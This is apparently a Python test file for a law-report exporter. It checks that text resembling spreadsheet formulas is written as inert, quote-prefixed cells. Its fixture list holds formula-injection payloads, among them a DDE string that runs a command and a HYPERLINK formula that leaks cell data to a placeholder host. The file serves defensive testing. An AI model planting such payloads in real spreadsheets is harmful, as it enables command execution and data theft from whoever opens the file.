"""Outputs other programs read: a report's text never runs as a formula in the reader's spreadsheet.

The xlsx keeps every text cell a string cell (``data_type == "s"``), with its value unchanged;
one that starts like a formula is also quote-prefixed. CSV is lossless: the values are written
as they are (see the docstring of :mod:`lawreports.export`).
"""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from lawreports.export import write_csv, write_tables, write_xlsx

FORMULA_LIKE = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=2*3", "\t\r@x",
                '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")', "=", "-", "=公式"]
PLAIN = ["天镇县", "1-2月", "a=b", " =x", "正常文本"]


def _frame() -> pd.DataFrame:
    values = FORMULA_LIKE + PLAIN
    return pd.DataFrame({"report_id": pd.array([f"r{i}" for i in range(len(values))], dtype="string"),
                         "title": pd.array(values, dtype="string"), "n": range(len(values))})


def test_xlsx_cells_that_look_like_formulas_are_text(tmp_path):
    path = write_xlsx("reports", _frame(), tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path)["reports"]
    header = [c.value for c in sheet[1]]
    col = header.index("title") + 1
    values = FORMULA_LIKE + PLAIN
    for row, expected in enumerate(values, start=2):
        cell = sheet.cell(row=row, column=col)
        assert cell.data_type == "s", (expected, cell.data_type)
        # XML reads a carriage return back as a newline (openpyxl writes it bare): that aside, unchanged
        assert cell.value == expected.replace("\r", "\n"), (cell.value, expected)
        assert cell.quotePrefix == (expected in FORMULA_LIKE), expected
    assert sheet.cell(row=2, column=header.index("n") + 1).data_type == "n"   # numbers stay numbers


def test_no_formula_anywhere_in_a_written_workbook(tmp_path):
    files = write_tables({"reports": _frame(), "other": _frame().rename(columns={"title": "text"})}, tmp_path,
                         formats=["xlsx"])
    book = openpyxl.load_workbook(files[0])
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title


def _csv_titles(tmp_path, values):
    frame = pd.DataFrame({"report_id": [f"r{i}" for i in range(len(values))], "title": values})
    path = write_csv("reports", frame, tmp_path / "reports.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [r["title"] for r in csv.DictReader(fh)]


def test_csv_keeps_the_values_as_they_are(tmp_path):
    values = [v for v in FORMULA_LIKE + PLAIN if "\r" not in v]
    assert _csv_titles(tmp_path, values) == values


@pytest.mark.xfail(strict=True, reason="pandas quotes a field holding \n but not one holding a bare \r "
                   "(its line terminator is \n): the CSV row breaks. Clean texts hold no \r "
                   "(normalize_text); a fix changes export.write_csv's quoting")
def test_csv_keeps_a_bare_carriage_return(tmp_path):
    values = ["\r=2*3", "a\rb"]
    assert _csv_titles(tmp_path, values) == values
